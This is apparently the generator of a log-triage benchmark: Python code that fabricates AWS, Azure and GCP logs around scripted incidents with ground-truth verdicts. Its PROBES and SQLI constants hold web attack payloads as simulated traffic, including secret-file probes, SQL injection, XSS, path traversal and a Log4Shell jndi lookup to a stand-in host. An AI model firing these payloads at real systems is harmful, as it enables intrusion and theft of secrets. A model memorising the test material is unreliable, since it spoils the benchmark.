"""Lines of clouds, clusters, meshes, perimeters and artefact stores, in the shapes of their documents, and a place for each story.

`tale(KINDS)` is the decorator of a module's kinds: a story gets its own day, people and addresses before it is told."""
import datetime as dt, functools, json, random
from stage import sec

WAI, MIS, FAULT, ATT, BOT, UND = "working-as-intended", "misconfiguration", "caller-fault", "attack", "unwanted-automation", "undetermined"
ONE, LOOP, BURST, STEADY = "single", "retry-loop", "burst-after-change", "steady"
BRUTE, SPRAY, STUFF = "brute-force", "password-spray", "credential-stuffing"
CALM = [ONE, STEADY, LOOP, BURST]          # between which innocent callers may honestly be put
FEW = [ONE, STEADY]

FIRST = ("aino bilal chiara dagny emeka fiona gaspard hiro ilse joao katya liam mbali nikolai orla pilar rashid sunniva tariq ute vikram wilma xaver yuki zora "
         "alma boris cosima dimitri elif florin greta2 hamza isolde jonna kofi lucia marek nadja odile per ragna stefan tuuli uma vlad yves").replace("greta2", "gunnar").split()
LAST = "adeyemi bauer castro dahl esposito fischer grimm hassan iversen jovanovic koch lemaire mbeki nielsen ortega popescu quinn ruiz silva tanaka ueda vargas wolff yamada zeman".split()
UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",
      "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
      "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Mobile Safari/537.36")
PROBES = ("/.env /.git/config /.git/HEAD /wp-login.php /xmlrpc.php /phpmyadmin/ /.aws/credentials /actuator/env /actuator/heapdump /server-status /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php "
          "/cgi-bin/luci/;stok=/locale /backup.tar.gz /dump.sql /.vscode/sftp.json /config.json /solr/admin/cores /console/ /jenkins/script /owa/ /autodiscover/autodiscover.xml /HNAP1/ "
          "/.DS_Store /id_rsa /.ssh/id_ed25519 /old/ /test.php /info.php /api/.env /manager/html /druid/index.html /debug/pprof/ /.svn/entries /web.config /admin.php /shell.php").split()
SQLI = ("/search?q=1%27%20OR%20%271%27=%271", "/items?id=12%20UNION%20SELECT%20username,password%20FROM%20users--", "/items?id=4;WAITFOR%20DELAY%20%270:0:9%27--", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/files?name=../../../../etc/passwd", "/items?id=1%20AND%20SLEEP(5)", "/?x=$%7Bjndi:ldap://203.0.113.9/a%7D", "/files?name=..%2f..%2f..%2fproc%2fself%2fenviron")
BESIDE = (("ci", "deployed docs-site build {n}", "docs-site", "deploy"), ("dba", "vacuumed table events_{n}", "db:events", "config"), ("netops", "lowered the TTL of status page record to {n}", "dns:status", "config"),
          ("ci", "deployed newsletter-worker 3.{n}.1", "newsletter-worker", "deploy"), ("sre", "raised memory limit of batch-render to {n}00 MiB", "batch-render", "config"), ("finops", "bought {n} reserved instances", "billing", "config"),
          ("renovate", "renewed certificate of wiki-{n}", "cert:wiki", "certificate"), ("sre", "granted group interns read on sandbox-{n}", "sandbox", "role"))


def z(t, digits=3): return t.strftime("%Y-%m-%dT%H:%M:%S") + (".%0*d" % (digits, t.microsecond // 10 ** (6 - digits)) if digits else "") + "Z"
def clf(t): return t.strftime("%d/%b/%Y:%H:%M:%S +0000")
def bsd(t): return t.strftime("%b ") + "%2d" % t.day + t.strftime(" %H:%M:%S")
def inc(s, title, layer, cause, verdict, pattern=ONE, change=None, /, **acceptable): return s.incident(title, layer, cause, verdict, pattern, change, acceptable=acceptable)
def later(t, s, low=2, high=40): return t + dt.timedelta(milliseconds=s.some(low, high))


def settle(s):
    r = s.r
    day = dt.datetime(2025, 9, 1, tzinfo=dt.timezone.utc) + dt.timedelta(days=r.randrange(0, 260))
    s.hour = r.randrange(1, 20)
    s.at = lambda minute, second=0: day + dt.timedelta(hours=s.hour, minutes=minute, seconds=second, microseconds=r.randrange(900000) if second else 0)
    s.company = r.choice("halden fjordtech ostara brixmoor calypso verano nimbra quorra tessel ravello".split())
    s.domain = s.company + r.choice((".example", ".example.com", ".example.net"))
    first, last, style = r.sample(FIRST, len(FIRST)), r.sample(LAST, len(LAST)), r.randrange(2)
    s.who = lambda k: first[k % len(first)] + "." + last[(k * 3 + k // len(first)) % len(last)] if style else first[k % len(first)][0] + last[(k * 3) % len(last)] + (str(k) if k > 8 else "")
    s.mail = lambda k: s.who(k) + "@" + s.domain
    nets = r.sample(("192.0.2.", "198.51.100.", "203.0.113."), 3)
    s.net, s.side, s.foe = nets
    base, s.b = r.randrange(3, 60), r.randrange(4, 99)
    s.ip = lambda k: s.net + str(base + k % 180)
    s.far = lambda k: "198.%d.%d.%d" % (18 + k % 2, (k * 37 + base) % 256, (k * 11 + s.b) % 250 + 2)        # people all over the place
    s.lan = lambda k: "10.%d.%d.%d" % (s.b, k // 240, k % 240 + 5)
    s.attacker = s.foe + str(r.randrange(30, 240))
    s.bots = ["100.%d.%d.%d" % (r.randrange(64, 128), r.randrange(256), r.randrange(1, 255)) for _ in range(160)]
    s.agent = lambda k: UA[k % len(UA)]
    s.account = "%012d" % r.randrange(10 ** 11, 10 ** 12)
    s.sub, s.tenant = s.uuid(), s.uuid()
    s.region = r.choice(("eu-west-1", "eu-central-1", "us-east-2"))
    s.node = r.choice(("ip-10-%d-3-7" % s.b, "edge-%02d" % r.randrange(1, 30), "fra1-web%d" % r.randrange(1, 9)))
    s.ids = {}


def tale(into):
    def kind(f):
        @functools.wraps(f)
        def told(s): settle(s); f(s); fewer(s)
        into.append(told)
        return f
    return kind


def fewer(s):
    """a day has about four incidents: each variant of a rich story keeps another part of them"""
    n = len(s.incidents)
    if n < 5: return
    order, half = random.Random(s.name.rsplit("-", 1)[0]).sample(range(n), n), max(4, (n + 1) // 2)
    keep = sorted(order[:half] if s.name.endswith("1") else order[-half:])
    for refs, truth in s.truth:
        if truth["incident"] not in keep:
            for e in refs: e["gone"] = True
    s.truth = [(refs, dict(truth, incident=keep.index(truth["incident"]))) for refs, truth in s.truth if truth["incident"] in keep]
    blamed = {i["change"] for k, i in enumerate(s.incidents) if k not in keep} - {s.incidents[k]["change"] for k in keep}
    s.incidents = [s.incidents[k] for k in keep]
    s.changes = [c for c in s.changes if c["what"] not in blamed]
    for file in list(s.lines):
        s.lines[file] = [e for e in s.lines[file] if not e.pop("gone", False)]
        if not s.lines[file]: del s.lines[file]


def once(s, name): return s.ids.setdefault(name, s.uuid())
def beside(s, *minutes):
    """changes that do nothing to anybody's access, as often as not"""
    if s.r.random() < .6:
        for m, (who, what, target, kind) in zip(minutes, s.r.sample(BESIDE, len(minutes))): s.change(s.at(m, s.some(0, 59)), who, what.format(n=s.some(11, 88)), target, kind)


# Amazon

def arn(s, role, session=None): return "arn:aws:sts::%s:assumed-role/%s/%s" % (s.account, role, session or role + "-run")


def trail(s, t, role, call, params=None, error=None, message=None, ip=None, agent="aws-sdk-java/2.34.0 Linux/6.1", session=None, kind="AssumedRole", write=None, more=None, file="cloudtrail.json", region=None, account=None):
    """CloudTrail record contents; `role` is a role's or a user's name"""
    source, name = call.split(":")
    acc = account or s.account
    if kind == "AssumedRole":
        who = {"type": kind, "principalId": "AROA%s:%s" % (once(s, role)[:8].upper(), session or role + "-run"), "arn": "arn:aws:sts::%s:assumed-role/%s/%s" % (acc, role, session or role + "-run"), "accountId": acc, "accessKeyId": "ASIA" + once(s, role + str(session)).replace("-", "").upper()[:16],
               "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROA" + once(s, role)[:8].upper(), "arn": "arn:aws:iam::%s:role/%s" % (acc, role), "accountId": acc, "userName": role}, "attributes": {"creationDate": z(s.at(-25), 0), "mfaAuthenticated": "false"}}}
    elif kind == "IAMUser": who = {"type": kind, "principalId": "AIDA" + once(s, role)[:8].upper(), "arn": "arn:aws:iam::%s:user/%s" % (acc, role), "accountId": acc, "accessKeyId": "AKIA" + once(s, role + "k").replace("-", "").upper()[:16], "userName": role}
    elif kind == "WebIdentityUser": who = {"type": kind, "principalId": "arn:aws:iam::%s:oidc-provider/token.actions.githubusercontent.com:sts.amazonaws.com:%s" % (acc, role), "userName": role, "identityProvider": "arn:aws:iam::%s:oidc-provider/token.actions.githubusercontent.com" % acc}
    else: who = {"type": "AWSAccount", "principalId": "AROA" + once(s, role)[:8].upper() + ":" + role, "accountId": acc}
    read = name.startswith(("Get", "List", "Describe", "Head", "Query", "Scan", "BatchGet", "Decrypt"))
    e = {"eventVersion": "1.11", "userIdentity": who, "eventTime": z(t, 0), "eventSource": source + ".amazonaws.com", "eventName": name, "awsRegion": region or s.region, "sourceIPAddress": ip or s.lan(9), "userAgent": agent}
    if error: e["errorCode"] = error
    if message: e["errorMessage"] = message
    e.update({"requestParameters": params, "responseElements": None, "requestID": s.uuid(), "eventID": s.uuid(), "readOnly": read if write is None else not write, "eventType": "AwsApiCall", "managementEvent": source not in ("s3", "dynamodb") or name in ("PutBucketPolicy", "ListBuckets"), "recipientAccountId": s.account, "eventCategory": "Management"})
    if not e["managementEvent"]: e["eventCategory"] = "Data"
    e.update(more or {})
    return s.json(file, t, e)


def denied(who, action, resource, why): return "User: %s is not authorized to perform: %s on resource: %s %s" % (who, action, resource, why)


def vpce(s, t, role, call, endpoint, error=None, params=None, account=None):
    """CloudTrail network activity event of a VPC endpoint"""
    source, name = call.split(":")
    e = {"eventVersion": "1.11", "userIdentity": {"type": "AWSAccount" if account else "AssumedRole", "principalId": "AROA%s:%s-run" % (once(s, role)[:8].upper(), role), "accountId": account or s.account}, "eventTime": z(t, 0), "eventSource": source + ".amazonaws.com", "eventName": name, "awsRegion": s.region, "sourceIPAddress": s.lan(sum(role.encode()) % 200)}
    if error: e.update({"errorCode": "VpceAccessDenied", "errorMessage": "The request was denied due to a VPC endpoint policy"})
    if params: e["requestParameters"] = params
    e.update({"requestID": s.uuid(), "eventID": s.uuid(), "eventType": "AwsVpceEvent", "recipientAccountId": s.account, "sharedEventID": s.uuid(), "vpcEndpointId": endpoint, "vpcEndpointAccountId": s.account, "eventCategory": "NetworkActivity"})
    return s.json("vpce-events.json", t, e)


def s3log(s, t, ip, who, op, key, status, code="-", bucket=None, agent="aws-sdk-go-v2/1.39.2", sig="SigV4", auth="AuthHeader", query="", file="s3-access.log"):
    """S3 server access log"""
    bucket = bucket or s.company + "-assets"
    return s.put(file, t, '%s %s [%s] %s %s %s %s %s "%s /%s%s HTTP/1.1" %d %s %s %s %d %s "-" "%s" - %s= %s TLS_AES_128_GCM_SHA256 %s %s.s3.%s.amazonaws.com TLSv1.3 - -' % (
        once(s, "canon").replace("-", "") * 2, bucket, clf(t), ip, who, s.hex(16).upper(), op, key, op.split(".")[1], key, query, status, code, s.some(243, 390) if status > 299 else s.some(900, 90000), "-" if status > 299 else s.some(900, 90000), s.some(5, 90), "-" if status > 299 else s.some(4, 50), agent, s.hex(40), sig, auth, bucket, s.region))


def alb(s, t, ip, method, path, status, target="-", trace=None, actions="forward", reason="-", agent=None, host=None, lb="app/web/9b1c0ffee0d1ce55"):
    """Application Load Balancer access log"""
    there = target != "-"
    return s.put("alb.log", t, 'h2 %s %s %s:%d %s %s %s %s %s %s %d %d "%s https://%s:443%s HTTP/2.0" "%s" TLS_AES_128_GCM_SHA256 TLSv1.3 %s "%s" "%s" "arn:aws:acm:%s:%s:certificate/7d1f" 0 %s "%s" "-" "%s" "%s" "%s" "-" "-" TID_%s' % (
        z(t, 6), lb, ip, s.some(20000, 64000), s.lan(40) + ":8080" if there else "-", "0.001" if there else "-1", "0.%03d" % s.some(4, 300) if there else "-1", "0.000" if there else "-1", status, target, s.some(90, 1200), s.some(180, 9000), method, host or "www." + s.domain, path, agent or s.agent(0),
        "arn:aws:elasticloadbalancing:%s:%s:targetgroup/web/73e2d6bc24d8a067" % (s.region, s.account) if there else "-", "Root=" + (trace or xray(s, t)), host or "www." + s.domain, s.region, s.account, z(t - sec(.02), 6), actions, reason, s.lan(40) + ":8080" if there else "-", target if there else "-", s.hex(32)))


def xray(s, t): return "1-%08x-%s" % (int(t.timestamp()), s.hex(24))


CFIELDS = "date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id x-host-header cs-protocol cs-bytes time-taken x-forwarded-for ssl-protocol ssl-cipher x-edge-response-result-type cs-protocol-version fle-status fle-encrypted-fields c-port time-to-first-byte x-edge-detailed-result-type sc-content-type sc-content-len sc-range-start sc-range-end"
def cfront(s, t, ip, method, path, status, result="Miss", detail=None, agent=None, host=None, edge=None, rid=None, referer="-"):
    """CloudFront standard log"""
    f = "cloudfront.log"
    if f not in s.lines: s.put(f, s.at(-30), "#Version: 1.0"); s.put(f, s.at(-30), "#Fields: " + CFIELDS)
    stem, _, query = path.partition("?")
    return s.put(f, t, "\t".join([t.strftime("%Y-%m-%d"), t.strftime("%H:%M:%S"), edge or "FRA60-P3", str(s.some(300, 9000)), ip, method, "d2k9q0example.cloudfront.net", stem, str(status), referer, (agent or s.agent(0)).replace(" ", "%20"), query or "-", "-", result, rid or s.hex(54) + "==", host or "www." + s.domain, "https", str(s.some(60, 700)), "0.%03d" % s.some(1, 300), "-", "TLSv1.3", "TLS_AES_128_GCM_SHA256", result, "HTTP/2.0", "-", "-", str(s.some(20000, 64000)), "0.%03d" % s.some(1, 300), detail or result, "text/html", "-", "-", "-"]))


def waf(s, t, ip, method, path, action="ALLOW", rule="Default_Action", kind="REGULAR", country="DE", agent=None, details=None, group=None, labels=(), rate=None, challenge=None, rid=None, source="ALB", host=None, headers=()):
    """AWS WAF log; a rule of a managed group appears in ruleGroupList"""
    uri, _, args = path.partition("?")
    e = {"timestamp": int(t.timestamp() * 1000), "formatVersion": 1, "webaclId": "arn:aws:wafv2:%s:%s:regional/webacl/web/6a1b" % (s.region, s.account), "terminatingRuleId": rule, "terminatingRuleType": kind, "action": action, "terminatingRuleMatchDetails": details or [], "httpSourceName": source, "httpSourceId": s.account + "-app/web/9b1c0ffee0d1ce55",
         "ruleGroupList": [{"ruleGroupId": group[0], "terminatingRule": {"ruleId": group[1], "action": "BLOCK", "ruleMatchDetails": None}, "nonTerminatingMatchingRules": [], "excludedRules": None, "customerConfig": None}] if group else [], "rateBasedRuleList": rate or [], "nonTerminatingMatchingRules": [], "requestHeadersInserted": None,
         "responseCodeSent": challenge[0] if challenge else None, "httpRequest": {"clientIp": ip, "country": country, "headers": [{"name": "Host", "value": host or "www." + s.domain}] + ([{"name": "User-Agent", "value": agent or s.agent(0)}] if agent != "" else []) + [{"name": k, "value": v} for k, v in headers], "uri": uri, "args": args, "httpVersion": "HTTP/2.0", "httpMethod": method, "requestId": rid or xray(s, t)}, "labels": [{"name": l} for l in labels]}
    if challenge: e["challengeResponse" if action == "CHALLENGE" else "captchaResponse"] = {"responseCode": challenge[0], "failureReason": challenge[1], "solveTimestamp": 0}
    return s.json("waf.json", t, e)


def apigw(s, t, ip, method, path, status, kind="-", message="-", agent="okhttp/4.12.0", key="-", who="-", authorizer="-", integration=None, authstatus="-", rid=None):
    """API Gateway access log with the usual $context variables"""
    return s.json("apigw-access.json", t, {"requestId": rid or s.uuid(), "ip": ip, "requestTime": clf(t), "httpMethod": method, "routeKey": "-", "resourcePath": path, "status": status, "protocol": "HTTP/1.1", "responseLength": s.some(23, 4000), "error.responseType": kind, "error.message": message, "authorizer.status": authstatus, "authorizer.error": authorizer, "authorizer.principalId": who, "identity.apiKeyId": key, "identity.userAgent": agent, "integration.status": "-" if integration is None else integration, "integrationLatency": "-" if integration is None else s.some(9, 200), "domainName": "api." + s.domain, "stage": "prod"})


# Microsoft

def vault(s, t, app, op, status=200, signature="OK", text=None, ip=None, name="db-password", who=None, kv=None):
    """Key Vault AuditEvent"""
    claim = {"http://schemas.microsoft.com/identity/claims/objectidentifier": once(s, app), "appid": once(s, app + "-app")}
    if who: claim["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn"] = who
    kv = kv or s.company + "-kv"
    return s.json("keyvault.json", t, {"time": z(t, 7 - 1), "category": "AuditEvent", "operationName": op, "resultType": "Success", "resultSignature": signature, **({"resultDescription": text} if text else {}), "durationMs": str(s.some(4, 90)), "callerIpAddress": ip, "correlationId": s.uuid(), "identity": {"claim": claim},
        "properties": {"clientInfo": "azsdk-net-Security.KeyVault.Secrets/4.7.0 (.NET 8.0)", "requestUri": "https://%s.vault.azure.net/secrets/%s/?api-version=7.5" % (kv, name), "id": "https://%s.vault.azure.net/secrets/%s" % (kv, name), "httpStatusCode": status, "isRbacAuthorized": status == 200, "tlsVersion": "TLS1_3"},
        "resourceId": "/SUBSCRIPTIONS/%s/RESOURCEGROUPS/RG-PROD/PROVIDERS/MICROSOFT.KEYVAULT/VAULTS/%s" % (s.sub.upper(), kv.upper())})


def activity(s, t, who, op, result="Success", code=None, text=None, ip=None, scope="/resourceGroups/rg-prod", body=None):
    """Azure activity log as diagnostic settings export it"""
    scope = "/subscriptions/%s%s" % (s.sub, scope)
    p = {"eventCategory": "Administrative", "entity": scope, "message": op, "hierarchy": s.tenant + "/" + s.sub}
    if code: p.update({"statusCode": "Forbidden", "serviceRequestId": s.uuid(), "statusMessage": json.dumps({"error": {"code": code, "message": text}})})
    if body: p["requestbody"] = json.dumps(body)
    return s.json("activity.json", t, {"time": z(t, 6), "resourceId": scope.upper(), "operationName": op.upper(), "category": "Administrative", "resultType": "Failure" if code else result, "resultSignature": "Failed.Forbidden" if code else "Succeeded.OK", "durationMs": str(s.some(9, 900)), "callerIpAddress": ip or s.ip(2), "correlationId": s.uuid(),
        "identity": {"authorization": {"scope": scope, "action": op, "evidence": {"role": "Contributor", "roleAssignmentScope": "/subscriptions/" + s.sub, "principalType": "User"}}, "claims": {"http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": who, "ipaddr": ip or s.ip(2)}}, "level": "Error" if code else "Information", "properties": p})


def blob(s, t, ip, op, path, status=200, text="Success", auth="OAuth", who=None, agent="azsdk-python-storage-blob/12.27.1", account=None, tls="TLS 1.3"):
    """Storage resource log, StorageRead/StorageWrite"""
    account = account or s.company + "data"
    return s.json("storage.json", t, {"time": z(t, 6), "resourceId": "/subscriptions/%s/resourceGroups/rg-data/providers/Microsoft.Storage/storageAccounts/%s/blobServices/default" % (s.sub, account), "category": "StorageRead" if op.startswith(("Get", "List", "Blob", "Preflight")) else "StorageWrite", "operationName": op, "operationVersion": "2025-05-05", "schemaVersion": "1.0", "statusCode": status, "statusText": text, "durationMs": s.some(2, 60), "callerIpAddress": "%s:%d" % (ip, s.some(20000, 64000)), "correlationId": s.uuid(),
        "identity": {"type": auth, **({"requester": {"objectId": once(s, who), "upn": who}} if who else {})}, "location": "westeurope", "properties": {"accountName": account, "userAgentHeader": agent, "serviceType": "blob", "objectKey": "/%s%s" % (account, path), "tlsVersion": tls}, "uri": "https://%s.blob.core.windows.net:443%s" % (account, path), "protocol": "HTTPS", "resourceType": "Microsoft.Storage/storageAccounts/blobServices"})


def signin(s, t, who, ip, code=0, reason=None, app="Contoso Portal", agent=None, country="DE", policies=None, category="SignInLogs", detail=None):
    """Entra sign-in log"""
    app = app.replace("Contoso", s.company.title())
    p = {"id": s.uuid(), "createdDateTime": z(t, 6), "appDisplayName": app, "appId": once(s, app), "ipAddress": ip, "status": {"errorCode": code, **({"failureReason": reason} if reason else {}), **({"additionalDetails": detail} if detail else {})}, "clientAppUsed": "Browser", "userAgent": agent or s.agent(0), "conditionalAccessStatus": "failure" if policies else "success", "appliedConditionalAccessPolicies": policies or [], "location": {"countryOrRegion": country}, "resourceDisplayName": "Microsoft Graph"}
    if category == "ServicePrincipalSignInLogs": p.update({"servicePrincipalName": who, "servicePrincipalId": once(s, who)})
    else: p.update({"userPrincipalName": who, "userDisplayName": who.split("@")[0], "userId": once(s, who)})
    return s.json("signins.json", t, {"time": z(t, 6), "resourceId": "/tenants/%s/providers/Microsoft.aadiam" % s.tenant, "operationName": "Sign-in activity", "operationVersion": "1.0", "category": category, "tenantId": s.tenant, "resultType": str(code), **({"resultDescription": reason} if reason else {}), "durationMs": 0, "callerIpAddress": ip, "correlationId": s.uuid(), "identity": who, "Level": 4, "location": country, "properties": p})


def door(s, t, ip, method, path, status, ref, agent=None, info="NoError", origin=True, country="DE"):
    """Front Door access log"""
    return s.json("frontdoor-access.json", t, {"time": z(t, 6), "resourceId": "/SUBSCRIPTIONS/%s/RESOURCEGROUPS/RG-EDGE/PROVIDERS/MICROSOFT.CDN/PROFILES/%s" % (s.sub.upper(), s.company.upper()), "category": "FrontDoorAccessLog", "operationName": "Microsoft.Cdn/Profiles/AccessLog/Write", "properties": {"trackingReference": ref, "httpMethod": method, "httpVersion": "2.0", "requestUri": "https://www.%s:443%s" % (s.domain, path), "hostName": "www." + s.domain, "requestBytes": str(s.some(90, 1900)), "responseBytes": str(s.some(300, 9000)), "userAgent": agent or s.agent(0), "clientIp": ip, "clientPort": str(s.some(20000, 64000)), "socketIp": ip, "clientCountry": country, "timeTaken": "0.%03d" % s.some(2, 300), "requestProtocol": "HTTPS", "securityProtocol": "TLSv1.3", "httpStatusCode": str(status), "httpStatusDetails": str(status), "pop": "BER", "cacheStatus": "CONFIG_NOCACHE", "errorInfo": info, "originName": "web-%s.azurewebsites.net:443" % s.company if origin else "N/A", "routingRuleName": "default-route", "rulesEngineMatchNames": []}})


def doorwaf(s, t, ip, path, action, rule, ref, policy="prodwaf", details=None):
    """Front Door WAF log"""
    return s.json("frontdoor-waf.json", t, {"time": z(t, 6), "resourceId": "/SUBSCRIPTIONS/%s/RESOURCEGROUPS/RG-EDGE/PROVIDERS/MICROSOFT.CDN/PROFILES/%s" % (s.sub.upper(), s.company.upper()), "category": "FrontDoorWebApplicationFirewallLog", "operationName": "Microsoft.Cdn/Profiles/WebApplicationFirewallLog/Write", "properties": {"clientIP": ip, "clientPort": str(s.some(20000, 64000)), "socketIP": ip, "requestUri": "https://www.%s:443%s" % (s.domain, path), "ruleName": rule, "policy": policy, "action": action, "host": "www." + s.domain, "trackingReference": ref, "policyMode": "prevention", "details": details or {"matches": []}}})


def tracking(s): return "0%s" % s.hex(24) + "Rlo="


def appgw(s, t, ip, uri, rule, message, action, tx, group="REQUEST-942-APPLICATION-ATTACK-SQLI", data="", host=None):
    """Application Gateway firewall log"""
    return s.json("appgw-firewall.json", t, {"timeStamp": z(t, 6), "resourceId": "/SUBSCRIPTIONS/%s/RESOURCEGROUPS/RG-EDGE/PROVIDERS/MICROSOFT.NETWORK/APPLICATIONGATEWAYS/GW-PROD" % s.sub.upper(), "operationName": "ApplicationGatewayFirewall", "category": "ApplicationGatewayFirewallLog", "properties": {"instanceId": "appgw_1", "clientIp": ip, "clientPort": "", "requestUri": uri, "ruleSetType": "OWASP_CRS", "ruleSetVersion": "3.2.0", "ruleId": rule, "message": message, "action": action, "site": "Global", "details": {"message": "Warning. " + message, "data": data, "file": "rules/%s.conf" % group, "line": str(s.some(20, 900))}, "hostname": host or "www." + s.domain, "transactionId": tx, "policyId": "default", "policyScope": "Global", "policyScopeName": "Global"}})


def appgwlog(s, t, ip, method, uri, status, tx, server="-", agent=None, waf_mode="Prevention"):
    """Application Gateway access log (v2)"""
    return s.json("appgw-access.json", t, {"timeStamp": z(t, 6), "resourceId": "/SUBSCRIPTIONS/%s/RESOURCEGROUPS/RG-EDGE/PROVIDERS/MICROSOFT.NETWORK/APPLICATIONGATEWAYS/GW-PROD" % s.sub.upper(), "listenerName": "https", "ruleName": "default", "backendPoolName": "pool", "operationName": "ApplicationGatewayAccess", "category": "ApplicationGatewayAccessLog", "properties": {"instanceId": "appgw_1", "clientIP": ip, "clientPort": s.some(20000, 64000), "httpMethod": method, "requestUri": uri.split("?")[0], "requestQuery": uri.partition("?")[2], "userAgent": agent or s.agent(0), "httpStatus": status, "httpVersion": "HTTP/2.0", "receivedBytes": s.some(90, 1900), "sentBytes": s.some(300, 9000), "timeTaken": 0.02, "transactionId": tx, "sslEnabled": "on", "sslProtocol": "TLSv1.3", "serverRouted": server, "serverStatus": str(status) if server != "-" else "-", "WAFMode": waf_mode, "host": "www." + s.domain, "originalHost": "www." + s.domain}})


def apim(s, t, ip, method, path, status, source=None, reason=None, message=None, section="inbound", key=None, agent="python-httpx/0.28.1", backend=None):
    """API Management GatewayLogs"""
    p = {"method": method, "url": "https://api.%s/%s" % (s.domain, path.lstrip("/")), "responseCode": status, "responseSize": s.some(90, 4000), "cache": "none", "apiId": path.strip("/").split("/")[0], "operationId": method.lower() + "-" + path.strip("/").split("/")[0], "clientProtocol": "HTTP/1.1", "clientTlsVersion": "1.3", "apiRevision": "1", "requestHeaders": {"User-Agent": agent}}
    if key: p["apimSubscriptionId"] = key
    if backend: p.update({"backendMethod": method, "backendUrl": "https://svc-%s.azurewebsites.net/%s" % (s.company, path.lstrip("/")), "backendResponseCode": backend, "backendProtocol": "HTTP/1.1"})
    if source: p["lastError"] = {"elapsed": s.some(1, 40), "source": source, "scope": "api", "section": section, "reason": reason, "message": message}
    return s.json("apim.json", t, {"time": z(t, 6), "resourceId": "/SUBSCRIPTIONS/%s/RESOURCEGROUPS/RG-API/PROVIDERS/MICROSOFT.APIMANAGEMENT/SERVICE/%s-APIM" % (s.sub.upper(), s.company.upper()), "operationName": "Microsoft.ApiManagement/GatewayLogs", "category": "GatewayLogs", "resultType": "Succeeded" if status < 400 else "Failed", "durationMs": s.some(4, 300), "callerIpAddress": ip, "correlationId": s.uuid(), "location": "West Europe", "isRequestSuccess": status < 400, "properties": p})


# Google

def gcp(s, t, who, service, method, resource, permission=None, code=0, message=None, granted=True, ip=None, log="data_access", metadata=None, more=None, kind="audited_resource", agent="google-cloud-sdk gcloud/548.0.0 command/gcloud.storage.cp", project=None, labels=None, file="gcp-audit.json"):
    """Cloud Audit Logs"""
    project = project or s.company + "-prod"
    p = {"@type": "type.googleapis.com/google.cloud.audit.AuditLog", "status": {"code": code, "message": message} if code else {}, "authenticationInfo": {"principalEmail": who}, "requestMetadata": {"callerIp": ip or s.lan(4), "callerSuppliedUserAgent": agent, "requestAttributes": {"time": z(t, 6), "auth": {}}, "destinationAttributes": {}}, "serviceName": service, "methodName": method, "resourceName": resource}
    if permission: p["authorizationInfo"] = [{"resource": resource, "permission": permission, **({"granted": True} if granted else {}), "resourceAttributes": {}}]
    if metadata: p["metadata"] = metadata
    p.update(more or {})
    return s.json(file, t, {"protoPayload": p, "insertId": s.hex(12), "resource": {"type": kind, "labels": labels or {"project_id": project, "service": service, "method": method}}, "timestamp": z(t, 6), "severity": "ERROR" if code else "NOTICE" if log == "activity" else "INFO", "logName": "projects/%s/logs/cloudaudit.googleapis.com%%2F%s" % (project, log), "receiveTimestamp": z(t + sec(.7), 6)})


def perimeter(s, t, who, service, method, resource, reason, ip, name="prod_data"):
    """VPC Service Controls: a Policy Denied audit log"""
    uid = s.hex(20)
    violation = {"ingressViolations": [{"targetResource": "projects/%d" % (s.b * 7919 + 10 ** 11), "servicePerimeter": "accessPolicies/%d/servicePerimeters/%s" % (s.b * 104729, name)}]} if reason == "NO_MATCHING_ACCESS_LEVEL" else {"egressViolations": [{"sourceType": "Resource", "source": "projects/%d" % (s.b * 7919 + 10 ** 11), "targetResource": "projects/%d" % (s.b * 6007 + 10 ** 11), "servicePerimeter": "accessPolicies/%d/servicePerimeters/%s" % (s.b * 104729, name)}]}
    return gcp(s, t, who, service, method, resource, code=7, message="Request is prohibited by organization's policy. vpcServiceControlsUniqueIdentifier: " + uid, ip=ip, log="policy",
        metadata={"@type": "type.googleapis.com/google.cloud.audit.VpcServiceControlAuditMetadata", "resourceNames": [resource], "securityPolicyInfo": {"organizationId": str(s.b * 1299709), "servicePerimeterName": "accessPolicies/%d/servicePerimeters/%s" % (s.b * 104729, name)}, "violationReason": reason, "vpcServiceControlsUniqueId": uid, **violation})


def glb(s, t, ip, method, path, status, details="response_sent_by_backend", policy=None, agent=None, region="DE", trace=None, host=None, service="web-backend", more=None):
    """External Application Load Balancer log, with Cloud Armor's part"""
    j = {"@type": "type.googleapis.com/google.cloud.loadbalancing.type.LoadBalancerLogEntry", "statusDetails": details, "backendTargetProjectNumber": "projects/%d" % (s.b * 7919 + 10 ** 11), "remoteIp": ip, "cacheDecision": ["CACHE_MODE_USE_ORIGIN_HEADERS"], "securityPolicyRequestData": {"remoteIpInfo": {"regionCode": region, "asn": 64500 + s.b}}}
    j["enforcedSecurityPolicy"] = policy or {"name": "edge-policy", "priority": 2147483647, "configuredAction": "ALLOW", "outcome": "ACCEPT"}
    j.update(more or {})
    return s.json("gclb.json", t, {"insertId": s.hex(14), "jsonPayload": j, "httpRequest": {"requestMethod": method, "requestUrl": "https://%s%s" % (host or "www." + s.domain, path), "requestSize": str(s.some(60, 900)), "status": status, "responseSize": str(s.some(120, 9000)), "userAgent": agent or s.agent(0), "remoteIp": ip, "latency": "0.%06ds" % s.some(2000, 400000), **({"serverIp": s.lan(30)} if details == "response_sent_by_backend" else {})},
